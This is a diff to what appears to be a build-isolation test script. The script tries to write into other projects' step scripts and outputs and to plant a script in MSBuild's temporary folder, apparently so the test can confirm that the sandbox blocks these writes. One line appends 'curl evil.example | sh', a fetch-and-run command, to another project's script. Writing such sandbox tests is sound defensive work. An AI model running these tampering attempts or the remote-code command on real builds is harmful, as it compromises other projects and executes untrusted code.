@@ -4,15 +4,10 @@ import os
 from escape import T, append, attempt, finish
 
 
-def own_script():
-    with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
-        args = f.read().decode().split("\0")
-    return next(a.split(". ", 1)[1].strip().strip("'\"") for a in args if ".exec.cmd" in a)
-
-
-script = own_script()
 attempt("other-project-script", lambda: append(T["otherScript"], b"curl evil.example | sh\n"))
 attempt("other-project-output", lambda: append(T["otherOutput"]))
-attempt("plant-next-step-script", lambda: append(os.path.join(os.path.dirname(script), T["plantedScriptName"])))
-attempt("own-step-script", lambda: append(script, b"echo rewritten\n"))
+# MSBuild writes every step's .exec.cmd into a folder under the build's TMPDIR; a step runs a
+# private copy of its own, so it cannot find that folder, let alone plant a script there.
+attempt("find-step-scripts", lambda: f"listed {len(os.listdir(T['buildTemp']))} entries")
+attempt("plant-next-step-script", lambda: append(os.path.join(T["buildTemp"], T["plantedScriptName"])))
 finish()
